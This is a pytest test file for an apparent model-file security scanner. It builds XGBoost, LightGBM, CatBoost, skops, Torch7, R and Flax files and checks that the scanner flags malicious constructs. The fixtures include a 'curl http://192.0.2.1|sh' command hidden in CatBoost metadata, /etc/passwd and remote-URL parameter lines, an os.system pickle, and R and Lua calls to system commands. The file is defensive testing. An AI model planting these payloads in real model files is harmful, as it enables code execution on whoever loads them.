"""The smaller learners: XGBoost, LightGBM, CatBoost, skops, Torch7, R and MessagePack, over files built here."""

import contextlib
import json
import struct
from importlib import import_module
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.assets.budget import Budget
from hauberk.assets.content import BytesContent
from hauberk.assets.errors import ReadError
from hauberk.assets.identify import identify
from hauberk.core import Asset, Fact, Gap


def items(reader: str, data: bytes, name: str = "m") -> list[Fact | Asset | Gap]:
    read = import_module(f"hauberk.assets.learners.{reader}").read
    return list(read(Asset(name, format=reader, name=name, content=BytesContent(data)), Budget()))


def checks(reader: str, data: bytes) -> list[str]:
    try:
        return [item.check for item in items(reader, data) if isinstance(item, Fact)]
    except ReadError as error:
        return [error.check]


# XGBoost


def xgb(**tree: Any) -> dict[str, Any]:
    good = {
        "tree_param": {"num_nodes": "3"}, "left_children": [1, -1, -1], "right_children": [2, -1, -1],
        "parents": [2147483647, 0, 0], "split_indices": [1, 0, 0], "split_conditions": [0.5, 0.1, 0.2],
    }  # fmt: skip
    model = {"gbtree_model_param": {"num_trees": "1"}, "trees": [{**good, **tree}]}
    learner = {"attributes": {}, "learner_model_param": {"num_feature": "2"}, "gradient_booster": {"model": model}}
    return {"learner": learner, "version": [3, 0, 0]}


def ubj(value: Any) -> bytes:
    """A UBJSON writer for what XGBoost writes: typed arrays where all are numbers."""
    if isinstance(value, dict):
        inner = b"".join(b"L" + struct.pack(">q", len(k)) + k.encode() + ubj(v) for k, v in value.items())
        return b"{" + inner + b"}"
    if isinstance(value, str):
        return b"SL" + struct.pack(">q", len(value)) + value.encode()
    if isinstance(value, list) and value and all(isinstance(v, int) for v in value):
        return b"[$l#L" + struct.pack(f">q{len(value)}i", len(value), *value)
    if isinstance(value, list):
        return b"[#L" + struct.pack(">q", len(value)) + b"".join(map(ubj, value))
    return (b"d" + struct.pack(">f", value)) if isinstance(value, float) else b"l" + struct.pack(">i", value)


FORMS = [lambda obj: json.dumps(obj).encode(), ubj]


@pytest.mark.parametrize("form", FORMS)
def test_xgboost_good(form: Any) -> None:
    data = form(xgb())
    assert identify(BytesContent(data), "model") == ("xgboost",)
    assert items("xgboost", data) == []


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("tree", "check"), [
    ({"left_children": [9, -1, -1]}, "xgboost.child"), ({"right_children": [-7, -1, -1]}, "xgboost.child"),
    ({"left_children": [0, -1, -1]}, "xgboost.child"), ({"split_indices": [2, 0, 0]}, "xgboost.split"),
    ({"tree_param": {"num_nodes": "1000000000"}}, "xgboost.count"), ({"parents": [0]}, "xgboost.count"),
])  # fmt: skip
def test_xgboost_trees_that_leave_themselves(form: Any, tree: dict[str, Any], check: str) -> None:
    assert checks("xgboost", form(xgb(**tree))) == [check]


def test_xgboost_binary() -> None:
    head = b"binf" + struct.pack("<fIi", 0.5, 4, 0) + bytes(124)
    good = head + struct.pack("<Q", 10) + b"reg:linear" + struct.pack("<Q", 6) + b"gbtree"
    assert [type(item) for item in items("xgboost", good)] == [Gap]
    assert checks("xgboost", head + struct.pack("<Q", 1 << 60)) == ["xgboost.length"]


def test_ubjson_lengths() -> None:
    assert checks("xgboost", b"{L" + struct.pack(">q", 1 << 50)) == ["ubjson.length"]
    assert checks("xgboost", b"{L" + struct.pack(">q", 1) + b"a" + b"[" * 5000) == ["ubjson.too-deep"]


# LightGBM


def lgb(**fields: str) -> bytes:
    tree = {
        "num_leaves": "3",
        "split_feature": "0 1",
        "threshold": "1 2",
        "left_child": "1 -1",
        "right_child": "-2 -3",
        "leaf_value": "1 2 3",
    }
    lines = [f"{key}={value}" for key, value in {**tree, **fields}.items()]
    head = ["tree", "version=v4", "num_class=1", "num_tree_per_iteration=1", "max_feature_idx=1", "feature_names=a b", "", "Tree=0"]
    tail = [
        "",
        "end of trees",
        "",
        "feature_importances:",
        "a=3",
        "",
        "parameters:",
        "[data: /home/me/train.csv]",
        "end of parameters",
    ]
    return "\n".join(head + lines + tail).encode()


def test_lightgbm_good() -> None:
    assert identify(BytesContent(lgb()), "model.txt") == ("lightgbm",)
    assert items("lightgbm", lgb()) == []


@pytest.mark.parametrize(("field", "value", "check"), [
    ("left_child", "99 -1", "lightgbm.index"), ("right_child", "-2 -9", "lightgbm.index"), ("left_child", "1 x", "lightgbm.index"),
    ("split_feature", "0 2", "lightgbm.index"), ("split_feature", "-1 0", "lightgbm.index"), ("leaf_value", "1", "lightgbm.count"),
    ("num_leaves", "99999999999", "lightgbm.count"), ("left_child", "1", "lightgbm.count"),
])  # fmt: skip
def test_cve_2024_43598_lightgbm_indices(field: str, value: str, check: str) -> None:
    assert checks("lightgbm", lgb(**{field: value})) == [check]


@pytest.mark.parametrize(
    "line", ["[machine_list_filename: /etc/passwd]", "[input_model: http://192.0.2.1/x]", "[data: https://a.invalid/x]"]
)
def test_lightgbm_parameters_elsewhere(line: str) -> None:
    assert "lightgbm.parameter-path" in checks("lightgbm", lgb() + b"\n" + line.encode())


# CatBoost


def test_catboost() -> None:
    body = bytes(40) + b"feature_system\0exec_time_ms"
    good = b"CBM1" + struct.pack("<I", len(body)) + body
    assert identify(BytesContent(good), "m") == ("catboost",)
    assert items("catboost", good) == []
    assert checks("catboost", b"CBM1\xff\xff\xff\xff" + body) == ["catboost.core-size"]
    assert "metadata.code" in checks("catboost", good + b"\0os.system('curl http://192.0.2.1|sh')\0")


# skops


def node(**fields: Any) -> bytes:
    logistic = {
        "__class__": "LogisticRegression",
        "__module__": "sklearn.linear_model",
        "__loader__": "ObjectNode",
        "content": None,
    }
    return json.dumps({**logistic, **fields}).encode()


def test_skops_references() -> None:
    (fact,) = items("skops", node())
    assert isinstance(fact, Fact)
    assert (fact.check, fact.attrs["module"], fact.attrs["name"]) == (
        "skops.reference",
        "sklearn.linear_model",
        "LogisticRegression",
    )
    nested = node(content={"a": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"x"'}]})
    assert checks("skops", nested) == ["skops.reference"]


def test_cve_2025_54412_method_node() -> None:
    obj = {"__class__": "A", "__module__": "b", "__loader__": "ObjectNode"}
    data = node(__class__="x", __module__="builtins", __loader__="MethodNode", content={"func": "__globals__", "obj": obj})
    fact = next(item for item in items("skops", data) if isinstance(item, Fact) and item.check == "skops.method")
    assert fact.attrs == {"private": True, "confused": True}


def test_cve_2025_54413_operator_node() -> None:
    data = node(__class__="methodcaller", __module__="operator", __loader__="OperatorFuncNode", attrs={"content": ["system"]})
    assert checks("skops", data) == ["skops.operator"]


def test_skops_without_a_schema_is_no_skops() -> None:
    content = BytesContent(b'{"version": "1.0"}')
    read = import_module("hauberk.assets.learners.skops").read
    with pytest.raises(ReadError):
        list(read(Asset("m.skops!/schema.json", format="skops", name="schema.json", content=content), Budget()))


# Torch7


def ints(*values: int) -> bytes:
    return struct.pack(f"<{len(values)}i", *values)


def word(text: bytes) -> bytes:
    return ints(len(text)) + text


def t7(inner: bytes) -> bytes:
    return ints(4, 1) + word(b"V 1") + word(b"nn.Sequential") + inner


STORAGE = ints(4, 4) + word(b"V 1") + word(b"torch.FloatStorage") + struct.pack("<q2f", 2, 1.0, 2.0)
TENSOR = ints(4, 3) + word(b"V 1") + word(b"torch.FloatTensor") + ints(1) + struct.pack("<qqq", 2, 1, 1) + STORAGE
NETWORK = t7(ints(3, 2, 2, 2) + word(b"weight") + TENSOR + ints(2) + word(b"n") + ints(1) + struct.pack("<d", 1))


def test_torch7_good() -> None:
    assert identify(BytesContent(NETWORK), "m") == ("torch7",)
    assert items("torch7", NETWORK) == []


def test_torch7_ascii() -> None:
    text = b"4\n1\n3\nV 1\n13\nnn.Sequential\n3\n2\n1\n2\n1\na\n1\n0.5\n"
    assert identify(BytesContent(text), "m.t7") == ("torch7",)
    assert items("torch7", text) == []


@pytest.mark.parametrize(("code", "reaches"), [(b"\x1bLJ\x01os\0execute\0id", True), (b"\x1bLJ\x01mul\0x", False)])
def test_torch7_functions(code: bytes, reaches: Any) -> None:
    data = t7(ints(3, 2, 1, 2) + word(b"f") + ints(6, 5) + word(code) + ints(0))
    (fact,) = items("torch7", data)
    assert isinstance(fact, Fact)
    assert fact.attrs["reaches"] is reaches


def test_torch7_deep() -> None:
    assert checks("torch7", b"".join(ints(3, i, 1, 5, 1) for i in range(1000))) == ["torch7.too-deep"]


# R


def be(*values: int) -> bytes:
    return struct.pack(f">{len(values)}i", *values)


def chars(text: bytes) -> bytes:
    return be(0x40009, len(text)) + text


def symbol(text: bytes) -> bytes:
    return be(1) + chars(text)


R2 = b"X\n" + be(2, 0x040302, 0x020300)
CALL = be(6) + symbol(b"system") + be(2) + be(16, 1) + chars(b"id") + be(254)
FRAME = (
    be(0x213, 2)
    + be(14, 1)
    + struct.pack(">d", 1)
    + be(13, 2, 1, 2)
    + be(0x402)
    + symbol(b"names")
    + be(16, 2)
    + chars(b"a")
    + chars(b"b")
    + be(254)
)


@pytest.mark.parametrize(
    "data", [R2 + FRAME, b"RDX3\nX\n" + be(3, 0x040302, 0x030500, 5) + b"UTF-8" + be(0x402) + symbol(b"x") + FRAME + be(254)]
)
def test_r_ordinary(data: bytes) -> None:
    assert identify(BytesContent(data), "m") == ("rds",)
    assert items("rds", data) == []


def test_r_formula_is_no_command() -> None:
    assert items("rds", R2 + be(6) + symbol(b"~") + be(2) + symbol(b"y") + be(2) + symbol(b"x") + be(254)) == []


def test_cve_2024_27322_promise() -> None:
    assert checks("rds", R2 + be(5) + be(252) + CALL) == ["rds.promise", "rds.call"]
    assert checks("rds", R2 + be(19, 1) + be(5) + be(252) + CALL) == ["rds.promise", "rds.call"]


def test_r_call_and_its_second_mention() -> None:
    assert checks("rds", R2 + be(20, 1) + CALL) == ["rds.expression", "rds.call"]
    again = be(6) + be(0x1FF) + be(254)
    assert checks("rds", R2 + be(19, 2) + CALL + again) == ["rds.call", "rds.call"]


def test_r_ascii() -> None:
    assert items("rds", b"A\n2\n262914\n131840\n14\n2\n1.5\n2\n") == []


def test_r_long_chain_is_walked() -> None:
    assert items("rds", R2 + b"".join(be(2) + symbol(b"x") for _ in range(5000)) + be(254)) == []


def test_r_deep_and_huge() -> None:
    assert checks("rds", R2 + be(19, 1) * 2000) == ["rds.too-deep"]
    assert checks("rds", R2 + be(16, 0x7FFFFFFF)) == ["rds.length"]


# MessagePack


def array(shape: list[int], dtype: str, data: bytes) -> Any:
    return msgspec.msgpack.Ext(1, msgspec.msgpack.encode((shape, dtype, data)))


FLAX = msgspec.msgpack.encode(
    {"params": {"Dense_0": {"kernel": array([2, 2], "float32", bytes(16)), "bias": array([2], "bfloat16", bytes(4))}}}
)


def test_flax_good() -> None:
    assert identify(BytesContent(FLAX), "flax_model") == ("msgpack",)
    assert items("flax", FLAX) == []


@pytest.mark.parametrize(("value", "check"), [
    ({"w": array([10**9, 10**9], "float32", bytes(8))}, "msgpack.array-size"),
    ({"w": array([1], "object", b"x")}, "msgpack.dtype"),
    ({"w": b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93)R."}, "msgpack.payload"),
    ({"__reduce__": 1}, "msgpack.hook-key"),
    ({"restore_fn": "eval"}, "msgpack.hook"), ({"w": b"\x7fELF\x02\x01\x01" + bytes(60)}, "msgpack.payload"),
])  # fmt: skip
def test_flax_bad(value: Any, check: str) -> None:
    assert check in checks("flax", msgspec.msgpack.encode(value))


def test_flax_bounds() -> None:
    assert checks("flax", b"\xc6\xff\xff\xff\xffx") == ["msgpack.length"]
    assert checks("flax", b"\xdd\xff\xff\xff\xff") == ["msgpack.count"]
    assert checks("flax", b"\x91" * 100_000) == ["msgpack.too-deep"]


def test_flax_trailing_bytes_are_looked_at() -> None:
    assert [item.name for item in items("flax", FLAX + b"\x7fELF" + bytes(60)) if isinstance(item, Asset)] == ["trailing"]


GOOD = {
    "xgboost": [json.dumps(xgb()).encode(), ubj(xgb())], "lightgbm": [lgb()],
    "catboost": [b"CBM1" + struct.pack("<I", 40) + bytes(40)], "skops": [node(content=[json.loads(node())])],
    "torch7": [NETWORK, b"4\n1\n3\nV 1\n13\nnn.Sequential\n3\n2\n1\n2\n1\na\n1\n0.5\n"],
    "rds": [R2 + FRAME, R2 + be(5) + be(252) + CALL, b"A\n2\n262914\n131840\n14\n2\n1.5\n2\n"], "flax": [FLAX],
}  # fmt: skip
CASES = [(reader, data) for reader, samples in GOOD.items() for data in samples]


def told(reader: str, data: bytes) -> None:
    with contextlib.suppress(ReadError):
        assert len(items(reader, data)) < 20_000


@given(st.sampled_from(sorted(GOOD)), st.binary(max_size=200))
@settings(max_examples=250, deadline=None)
def test_any_bytes(reader: str, data: bytes) -> None:
    told(reader, data)


@given(st.sampled_from(CASES), st.data())
@settings(max_examples=400, deadline=None)
def test_any_mutation(case: tuple[str, bytes], draw: st.DataObject) -> None:
    data = bytearray(case[1])
    for _ in range(draw.draw(st.integers(1, 5))):
        at = draw.draw(st.integers(0, len(data)))
        data[at : at + draw.draw(st.integers(0, 4))] = draw.draw(
            st.sampled_from([b"\xff\xff\xff\xff", b"\x00", b"\x7f\xff"]) | st.binary(max_size=4)
        )
    told(case[0], bytes(data))
